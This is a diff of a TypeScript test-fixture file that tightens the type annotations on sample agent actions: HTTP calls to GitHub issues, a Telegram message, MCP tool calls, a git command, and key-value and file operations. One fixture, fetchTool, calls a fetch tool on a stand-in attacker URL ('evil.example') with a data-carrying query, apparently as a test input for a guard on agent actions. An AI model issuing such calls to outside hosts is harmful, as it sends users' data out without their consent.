@@ -11,16 +11,16 @@ export const ISSUES = 'https://api.github.com/repos/o/r/issues?state=open&page=2
 
 export const read: AgentAction = http('GET', ISSUES);
 export const write: AgentAction = http('POST', 'https://api.github.com/repos/o/r/issues');
-export const message: AgentAction = {
+export const message: AgentAction & { kind: 'message' } = {
   kind: 'message',
   channel: 'telegram',
   account_id: 'bot',
   to: null,
   text: 'hello',
 };
-export const tool: AgentAction = { kind: 'mcp_tool', server: 'files', tool: 'read_file', arguments: { path: 'a.txt' } };
-export const fetchTool: AgentAction = { ...tool, tool: 'fetch', arguments: { url: 'https://evil.example/?d=1' } };
-export const command: AgentAction = { kind: 'command', argv: ['git', 'log'], cwd: null };
+export const tool: AgentAction & { kind: 'mcp_tool' } = { kind: 'mcp_tool', server: 'files', tool: 'read_file', arguments: { path: 'a.txt' } };
+export const fetchTool: AgentAction & { kind: 'mcp_tool' } = { ...tool, tool: 'fetch', arguments: { url: 'https://evil.example/?d=1' } };
+export const command: AgentAction & { kind: 'command' } = { kind: 'command', argv: ['git', 'log'], cwd: null };
 export const setValue: AgentAction = { kind: 'kv', op: 'set', key: 'last', value: 1 };
 export const getValue: AgentAction = { kind: 'kv', op: 'get', key: 'last' };
 export const writeFile: AgentAction = { kind: 'file', op: 'write', path: 'report.md', content: 'x' };
